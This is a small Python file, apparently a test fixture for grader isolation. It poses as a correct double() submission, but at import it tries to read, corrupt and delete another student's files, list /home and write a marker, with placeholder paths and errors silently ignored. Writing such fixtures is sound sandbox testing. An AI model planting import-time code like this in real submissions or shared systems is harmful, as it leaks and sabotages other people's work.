"""A correct double() whose import reads and overwrites another student's submission."""
import os

OTHER = "@@OTHER@@"
for attempt in (lambda: print("LEAK:", open(OTHER + "/blocks.py").read()[:80]),
                lambda: open(OTHER + "/blocks.py", "a").write("\nraise SystemExit('sabotaged')\n"),
                lambda: open(OTHER + "/pwned.txt", "w").write("pwned"),
                lambda: os.unlink(OTHER + "/extra.py"),
                lambda: print("LEAK: home", os.listdir("/home")),
                lambda: open("@@MARKER@@", "w").write("pwned")):
    try:
        attempt()
    except OSError:
        pass


def double(x: int) -> int:
    return 2 * x
